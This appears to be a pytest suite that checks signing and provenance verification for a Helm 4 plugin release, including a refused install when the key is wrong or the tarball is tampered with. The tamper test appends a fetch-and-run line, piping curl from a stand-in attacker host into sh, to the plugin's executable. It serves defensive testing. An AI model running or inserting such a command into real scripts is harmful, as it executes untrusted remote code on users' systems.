"""scripts/package-helm-plugin.sh: the Helm 4 plugin as the release publishes it, checked the
way a user's Helm 4 checks it: `helm plugin install` of the tarball verifies the provenance file
against the keyring it is given, built from the public key the release publishes beside it.

The signing key is made here with GnuPG, passphrase-protected like the one in the release
secrets, and handed to the script in SIGNING_KEY / SIGNING_KEY_PASSPHRASE as the workflow does.
"""

from __future__ import annotations

import gzip
import io
import os
import subprocess
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from tests.conftest import ROOT
from tests.support.tools import tool_path

pytestmark = pytest.mark.tools

SCRIPT = ROOT / "scripts" / "package-helm-plugin.sh"
PLUGIN = yaml.safe_load((ROOT / "helm-plugin" / "plugin.yaml").read_text())
TARBALL = f"{PLUGIN['name']}-{PLUGIN['version']}.tgz"
PASSPHRASE = "correct horse battery staple"


@dataclass(frozen=True)
class SigningKey:
    armored_secret: str
    armored_public: str
    fingerprint: str


def make_key(home: Path, user_id: str, passphrase: str) -> SigningKey:
    home.mkdir(mode=0o700, parents=True)
    gpg = ["gpg", "--homedir", str(home), "--batch", "--quiet", "--pinentry-mode", "loopback"]
    secret = ["--passphrase", passphrase]
    subprocess.run([*gpg, *secret, "--quick-gen-key", user_id, "ed25519", "sign", "never"], check=True)
    listing = subprocess.run(
        [*gpg, "--with-colons", "--list-secret-keys"], capture_output=True, text=True, check=True
    ).stdout
    fingerprint = next(line.split(":")[9] for line in listing.splitlines() if line.startswith("fpr:"))
    exported = subprocess.run(
        [*gpg, *secret, "--armor", "--export-secret-keys", fingerprint],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    public = subprocess.run(
        [*gpg, "--armor", "--export", fingerprint], capture_output=True, text=True, check=True
    ).stdout
    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], check=False)
    return SigningKey(exported, public, fingerprint)


@pytest.fixture(scope="module")
def release_key(tmp_path_factory: pytest.TempPathFactory) -> SigningKey:
    return make_key(
        tmp_path_factory.mktemp("gnupg") / "home", "btp-gitops releases <release@example.com>", PASSPHRASE
    )


def package(
    dest: Path, key: SigningKey | None, passphrase: str = PASSPHRASE
) -> subprocess.CompletedProcess[str]:
    env = {"PATH": os.environ["PATH"], "HOME": str(dest.parent), "HELM": str(tool_path("helm4"))}
    if key is not None:
        env |= {"SIGNING_KEY": key.armored_secret, "SIGNING_KEY_PASSPHRASE": passphrase}
    return subprocess.run(
        ["bash", str(SCRIPT), str(dest)], capture_output=True, text=True, env=env, check=False, timeout=120
    )


def keyring(armored: str, path: Path) -> Path:
    """A user's keyring from the published .asc, in the binary form Helm reads."""
    subprocess.run(["gpg", "--batch", "--dearmor", "--output", str(path)], input=armored.encode(), check=True)
    return path


def helm(*args: str | Path, home: Path) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "HELM_DATA_HOME": str(home / "data"),
        "HELM_CONFIG_HOME": str(home / "config"),
        "HELM_CACHE_HOME": str(home / "cache"),
    }
    return subprocess.run(
        [str(tool_path("helm4")), *map(str, args)],
        capture_output=True,
        text=True,
        env=env,
        check=False,
        timeout=60,
    )


@pytest.fixture(scope="module")
def packaged(tmp_path_factory: pytest.TempPathFactory, release_key: SigningKey) -> Path:
    dest = tmp_path_factory.mktemp("release") / "helm-plugin"
    result = package(dest, release_key)
    assert result.returncode == 0, result.stdout + result.stderr
    return dest


def test_the_release_holds_the_plugin_its_provenance_and_the_public_key(
    packaged: Path, release_key: SigningKey
) -> None:
    assert {path.name for path in packaged.iterdir()} == {
        f"{PLUGIN['name']}-signing-key.asc",
        TARBALL,
        f"{TARBALL}.prov",
    }
    assert (packaged / f"{PLUGIN['name']}-signing-key.asc").read_text() == release_key.armored_public
    assert "PRIVATE KEY" not in "".join(path.read_text(errors="replace") for path in packaged.iterdir())
    with tarfile.open(packaged / TARBALL) as archive:
        members = {member.name: member for member in archive.getmembers()}
    assert set(members) >= {"btp-gitops/plugin.yaml", "btp-gitops/bin/post-render"}
    assert members["btp-gitops/bin/post-render"].mode & 0o111


def test_helm_installs_it_verified_against_the_published_key(
    packaged: Path, release_key: SigningKey, tmp_path: Path
) -> None:
    published = keyring(
        (packaged / f"{PLUGIN['name']}-signing-key.asc").read_text(), tmp_path / "pubring.gpg"
    )

    installed = helm("plugin", "install", packaged / TARBALL, "--keyring", published, home=tmp_path)

    assert installed.returncode == 0, installed.stdout + installed.stderr
    assert f"Using Key With Fingerprint: {release_key.fingerprint}" in installed.stdout
    listed = helm("plugin", "list", home=tmp_path).stdout.splitlines()
    assert listed[1].split()[:5] == ["btp-gitops", PLUGIN["version"], "postrenderer/v1", "v1", "signed"]
    entry_point = next((tmp_path / "data" / "plugins").glob("*/bin/post-render"))
    assert os.access(entry_point, os.X_OK)


def test_another_key_or_a_changed_tarball_is_refused(
    packaged: Path, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    stranger = make_key(tmp_path_factory.mktemp("gnupg") / "home", "someone else <x@example.com>", "other")
    wrong_keyring = keyring(stranger.armored_public, tmp_path / "stranger.gpg")
    refused = helm("plugin", "install", packaged / TARBALL, "--keyring", wrong_keyring, home=tmp_path / "a")
    assert refused.returncode != 0
    assert "plugin verification failed" in refused.stderr

    tampered = tmp_path / "tampered" / TARBALL
    tampered.parent.mkdir()
    (tampered.parent / f"{TARBALL}.prov").write_bytes((packaged / f"{TARBALL}.prov").read_bytes())
    with (
        tarfile.open(packaged / TARBALL) as archive,
        gzip.open(tampered, "wb") as raw,
        tarfile.open(fileobj=raw, mode="w") as copy,
    ):
        for member in archive.getmembers():
            source = archive.extractfile(member) if member.isfile() else None
            data = source.read() if source is not None else None
            if member.name.endswith("bin/post-render") and data is not None:
                data += b"curl https://attacker.example | sh\n"
                member.size = len(data)
            copy.addfile(member, io.BytesIO(data) if data is not None else None)
    published = keyring(
        (packaged / f"{PLUGIN['name']}-signing-key.asc").read_text(), tmp_path / "pubring.gpg"
    )
    changed = helm("plugin", "verify", tampered, "--keyring", published, home=tmp_path / "b")
    assert changed.returncode != 0
    assert f"sha256 sum does not match for {TARBALL}" in changed.stderr


def test_no_key_or_a_wrong_passphrase_stops_before_anything_is_written(
    release_key: SigningKey, tmp_path: Path
) -> None:
    without_key = package(tmp_path / "a" / "out", None)
    assert without_key.returncode != 0
    assert "SIGNING_KEY (an ASCII-armored PGP private key) is not set" in without_key.stderr

    wrong_passphrase = package(tmp_path / "b" / "out", release_key, passphrase="not it")
    assert wrong_passphrase.returncode != 0
    assert not list((tmp_path / "b" / "out").glob("*.tgz*"))
